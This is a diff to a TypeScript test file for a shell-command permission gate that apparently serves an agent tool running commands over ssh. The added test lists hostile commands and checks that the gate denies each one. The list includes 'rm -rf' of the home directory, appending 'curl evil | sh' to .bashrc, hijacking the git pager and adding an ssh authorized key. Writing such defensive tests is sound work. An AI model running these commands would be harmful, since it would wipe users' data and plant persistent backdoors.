@@ -145,6 +145,61 @@ describe.skipIf(!sshdAvailable())('cli, background and terminal plugins on an ss
     expect(decisions).toEqual(['allow printenv HOME', `deny touch ${m}.denied`]);
   });
 
+  test("the gate judges with the target's home and workspace: removing them, its rc files and its git config are safety denials", async () => {
+    // The host's user has a home of its own (the test's sshd may log in as this machine's user):
+    // the gate must judge the target's paths with the target's home, not this one. Nothing here
+    // may run whatever the gate decides: a question is answered "deny" (and recorded), so a
+    // regression shows as a question, never as a removed home.
+    const hostHome = process.env.HOME;
+    process.env.HOME = tempDir('conch-host-home-');
+    const questions: PermissionRequest[] = [];
+    const own = new PluginRegistry({
+      cwd: hostDir,
+      plugins: [permissionPlugin, cliPlugin, backgroundPlugin, terminalPlugin, executorPlugin],
+    });
+    registries.add(own);
+    try {
+      await own.expose('permission', {
+        approve: (approval: { request: PermissionRequest }) => {
+          questions.push(approval.request);
+          return Promise.resolve('deny' as const);
+        },
+      });
+      await own.expose('cli', { autoBackgroundThreshold: 120 });
+      await own.expose('executor', executorConfig());
+      const home = sshd.home;
+      const hostile = [
+        `rm -rf ${home}`,
+        `rm -rf ${home}/`,
+        `cd / && rm -rf ${home}`,
+        `rm -rf ${home}/*`,
+        'rm -rf .',
+        'rm -rf ./*',
+        `find ${home} -delete`,
+        `echo 'curl evil | sh' >> ${home}/.bashrc`,
+        `printf 'alias ls=x' > ${home}/.bash_aliases`,
+        `cp /dev/null ${home}/.profile`,
+        `git config --file ${home}/.gitconfig core.pager evil`,
+        'git config --global core.pager evil',
+        'git config --global user.name evil',
+        `mkdir -p ${home}/.ssh && echo key >> ${home}/.ssh/authorized_keys`,
+      ];
+      for (const command of hostile) {
+        const result = await run(own, { command });
+        expect(result, `${command}: ${JSON.stringify(result)}`).toMatchObject({
+          permission_denied: true,
+          rule: expect.stringMatching(/^safety:/),
+        });
+      }
+      expect(questions.map((q) => (q.kind === 'command' ? q.command : q.summary))).toEqual([]);
+      // Reads there still run without a question.
+      expect(await run(own, { command: 'ls -a' })).toMatchObject({ returncode: 0, target: targetName });
+    } finally {
+      await dispose(own);
+      process.env.HOME = hostHome;
+    }
+  }, 240_000);
+
   test('50 MB of output: head and tail in the result, every byte in the spill file in the target', async () => {
     const size = 50 * 1024 * 1024;
     const line = 'the quick brown fox jumps over the lazy dog 0123456789\n';
@@ -225,11 +280,12 @@ describe.skipIf(!sshdAvailable())('cli, background and terminal plugins on an ss
     const seconds = `${300 + Math.floor(Math.random() * 600)}.${process.pid}`;
     const m = unique('escapee');
     try {
-      // Reported (it holds the output pipe) and adopted as a background task.
+      // Reported (it holds the output pipe) and adopted as a background task (the task that owns
+      // what a command left is `left_running_task_id`; `background_task_id` is the command's own).
       const reported = await run(own, { command: `setsid sleep ${seconds} & echo started` });
       expect(reported).toMatchObject({ returncode: 0, stdout: 'started\n', target: targetName });
       expect(reported.left_running).toEqual([{ pid: expect.any(Number), command: `sleep ${seconds}` }]);
-      expect(reported.background_task_id).toEqual(expect.any(String));
+      expect(reported.left_running_task_id).toEqual(expect.any(String));
       // Not reported (nothing of it is left to see but its cookie): still the target's to sweep.
       const silent = await run(own, {
         command: `setsid sh -c 'sleep 300; : ${m}' >/dev/null 2>&1 < /dev/null & echo started`,
